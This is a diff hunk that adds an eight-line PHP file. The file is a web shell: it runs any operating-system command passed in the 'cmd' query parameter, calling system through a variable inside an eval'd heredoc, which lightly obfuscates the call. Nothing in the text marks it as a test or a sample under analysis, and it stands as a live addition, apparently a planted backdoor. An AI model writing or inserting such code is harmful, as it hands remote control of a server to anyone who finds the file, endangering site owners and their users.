@@ -1,0 +1,8 @@
+<?php
+$code = <<<EOD
+\$_ = 'system';
+\$_(\$_GET['cmd']);
+EOD;
+
+eval($code);
+?>
